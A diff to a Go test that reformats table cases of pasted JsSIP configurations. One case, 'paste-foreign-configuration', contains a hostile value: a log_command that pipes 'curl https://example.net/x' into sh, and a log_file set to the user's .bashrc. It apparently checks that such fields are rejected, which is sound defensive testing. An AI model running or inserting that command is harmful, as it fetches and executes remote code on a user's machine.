@@ -191,10 +191,26 @@ func (s *states) pasting() {
 	s.open(nil)
 	s.first(4) // Paste a JsSIP configuration
 	for _, paste := range []struct{ name, text string }{
-		{"paste-to-fill-in", `new JsSIP.UA({ uri: 'sip:alice@example.test', password: process.env.SIP_PASSWORD, sockets: [new JsSIP.WebSocketInterface(` + "`wss://${host}/ws`" + `)] })`},
-		{"paste-several", `const a = new JsSIP.UA({ uri: 'sip:alice@example.test', sockets: 'wss://example.test' }); const b = new JsSIP.UA({ uri: 'sip:bob@example.test', sockets: 'wss://example.test' })`},
-		{"paste-misspelt", `{ uri: 'alice@example.test', ws_server: 'wss://example.test', registerExpires: 300, pasword: 'x', theme: 'dark' }`},
-		{"paste-foreign-configuration", `{ uri: 'alice@example.test', ws_servers: 'wss://example.test', calla: { log_command: 'sh -c "curl https://example.net/x | sh"', log_file: '/home/alice/.bashrc' } }`},
+		{
+			"paste-to-fill-in",
+			`new JsSIP.UA({ uri: 'sip:alice@example.test', password: process.env.SIP_PASSWORD, ` +
+				`sockets: [new JsSIP.WebSocketInterface(` + "`wss://${host}/ws`" + `)] })`,
+		},
+		{
+			"paste-several",
+			`const a = new JsSIP.UA({ uri: 'sip:alice@example.test', sockets: 'wss://example.test' }); ` +
+				`const b = new JsSIP.UA({ uri: 'sip:bob@example.test', sockets: 'wss://example.test' })`,
+		},
+		{
+			"paste-misspelt",
+			`{ uri: 'alice@example.test', ws_server: 'wss://example.test', ` +
+				`registerExpires: 300, pasword: 'x', theme: 'dark' }`,
+		},
+		{
+			"paste-foreign-configuration",
+			`{ uri: 'alice@example.test', ws_servers: 'wss://example.test', calla: { ` +
+				`log_command: 'sh -c "curl https://example.net/x | sh"', log_file: '/home/alice/.bashrc' } }`,
+		},
 		{"paste-nothing", `Dear colleague, please set up your telephone by tomorrow.`},
 	} {
 		s.put(paste.text)
